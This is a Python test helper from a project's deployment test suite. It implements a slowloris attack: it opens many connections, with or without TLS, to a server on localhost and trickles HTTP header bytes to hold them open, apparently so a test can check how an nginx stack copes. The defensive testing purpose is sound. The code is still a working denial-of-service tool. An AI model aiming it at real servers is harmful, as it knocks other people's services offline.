"""Hold connections open by sending request headers one byte at a time.

    python -m tests.deploy.slowloris PORT SERVER_NAME CAFILE COUNT
    python -m tests.deploy.slowloris PORT SERVER_NAME plain COUNT   # no TLS

Run as its own process by test_nginx_stack.py, so the attack never competes
with the measuring client for the test process's interpreter. Prints "ready"
once every connection is open, then trickles until killed.
"""

from __future__ import annotations

import socket
import ssl
import sys
import time


def main() -> None:
    port, server_name, cafile, count = sys.argv[1:5]
    context = None if cafile == "plain" else ssl.create_default_context(cafile=cafile)
    header = f"GET / HTTP/1.1\r\nHost: {server_name}\r\nX-a: ".encode()
    sockets = []
    for _ in range(int(count)):
        raw = socket.create_connection(("127.0.0.1", int(port)))
        sock = raw
        if context is not None:
            sock = context.wrap_socket(raw, server_hostname=server_name)
        sock.sendall(header[:1])
        sockets.append(sock)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    position = 1
    while True:
        time.sleep(0.5)
        byte = header[position % len(header) :][:1]
        for sock in sockets:
            try:
                sock.sendall(byte)
            except OSError:
                pass
        position += 1


if __name__ == "__main__":
    main()
